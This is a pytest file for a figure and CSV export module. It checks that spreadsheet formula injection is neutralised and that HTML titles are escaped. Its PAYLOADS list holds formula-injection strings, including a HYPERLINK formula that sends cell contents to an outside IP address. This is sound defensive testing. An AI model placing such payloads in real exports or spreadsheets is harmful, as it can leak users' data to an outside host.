import csv
import io
import math
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import pytest

from core.plots import Drawing, theme
from core.plots.export import safe_csv, write_figures

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
]


def cells(content):
    rows = [line for line in content.decode().split("\n") if not line.startswith("# ")]
    return list(csv.reader(io.StringIO("\n".join(rows), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_or_header_is_a_formula(payload):
    frame = pd.DataFrame({payload: [payload, "plain"]})
    header, first, second = list(csv.reader(io.StringIO(safe_csv(frame).decode(), newline="")))
    assert header == first == ["'" + payload.replace("\r", "\n").replace("\0", "")]
    assert second == ["plain"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_note_opens_a_cell_with_a_formula(payload):
    content = safe_csv(pd.DataFrame({"n": [1]}), [f"Subsite is {payload},{payload};{payload}\t{payload}"]).decode()
    *notes, _, _ = content.splitlines()
    assert notes and all(note.startswith("# ") for note in notes)
    for note in notes:
        for cell in note.replace(";", ",").replace("\t", ",").split(",")[1:]:
            assert cell.strip(' "')[:1] not in tuple("=+-@")


def test_numbers_stay_numbers_and_come_back_equal():
    frame = pd.DataFrame(
        {
            "value": [-0.53, 1 / 3, math.nan, 1e-300],
            "count": pd.array([1, -2, None, 4], dtype="Int64"),
            "text": ["-0.53", "+2", "1e-5", None],
            "level": pd.Categorical(["a", "b", None, "a"]),
            "flag": [True, False, True, False],
        }
    )
    back = pd.read_csv(io.BytesIO(safe_csv(frame, ["n = 4, of 5"])), comment="#")
    np.testing.assert_array_equal(back["value"], frame["value"])
    assert back["count"].tolist()[:2] == [1, -2] and back["count"].isna().tolist() == [False, False, True, False]
    np.testing.assert_array_equal(back["text"], [-0.53, 2, 1e-5, np.nan])
    assert back["level"].fillna("").tolist() == ["a", "b", "", "a"]
    assert back["flag"].tolist() == [True, False, True, False]


def test_an_address_in_the_notes_still_works():
    address = "Cohort?v=1&where=subsite%20in%20(larynx,oropharynx)&x=a,-1"
    line = safe_csv(pd.DataFrame({"n": [1]}), [address]).decode().splitlines()[0]
    assert line == "# " + address.replace(",", "%2C")


def test_a_named_index_is_a_column_and_levels_of_headers_are_joined():
    frame = pd.DataFrame({("age", "mean"): [1.5]}, index=pd.Index(["HPV+"], name="group"))
    frame.columns = pd.MultiIndex.from_tuples(frame.columns)
    assert cells(safe_csv(frame))[:2] == [["group | ", "age | mean"], ["HPV+", "1.5"]]


def test_an_empty_table_keeps_its_headers():
    assert safe_csv(pd.DataFrame({"a": [], "b": []})) == b"a,b\n"


def example():
    figure = theme.figure()
    figure.add_scatter(x=[0, 1], y=[1, 2], name="everyone")
    data = pd.DataFrame({"x": [0, 1], "y": [1, 2]})
    return Drawing("line", "A line <script>", figure, data, "n = 2.", 'It "rises".').stamped()


def test_without_a_browser_the_figures_are_one_page(tmp_path, monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "none"))
    written = write_figures([example()], tmp_path / "figures", ["Demo <b>"])
    assert [file.name for file in written.files] == ["line.csv", "figures.html"]
    assert "Install Chromium" in written.notice
    page = written.files[1].read_text(encoding="utf-8")
    assert "Synthetic demonstration data" in page
    assert "Demo &lt;b&gt;" in page and "<b>" not in page.rpartition("</script>")[2]
    assert 'src="http' not in page
    assert (
        written.files[0].read_text().startswith("# Synthetic demonstration data\n# A line <script>\n# n = 2.\n# Demo")
    )


def test_nothing_to_draw_writes_nothing(tmp_path):
    assert write_figures([], tmp_path / "new").files == ()


@pytest.mark.browser
def test_with_a_browser_the_figures_are_svg_and_png(tmp_path):
    from tests.browser.chromium import find

    if find() is None:
        pytest.skip("no Chromium: python -m tests.browser.chromium")
    written = write_figures([example()], tmp_path)
    assert [file.name for file in written.files] == ["line.csv", "line.svg", "line.png"]
    assert written.notice == ""
    said = " ".join(ElementTree.parse(written.files[1]).getroot().itertext())
    assert "Synthetic demonstration data" in said and "A line <script>" in said
    png = written.files[2].read_bytes()
    assert png[:8] == b"\x89PNG\r\n\x1a\n"
    assert int.from_bytes(png[16:20], "big") == 3 * theme.WIDTH
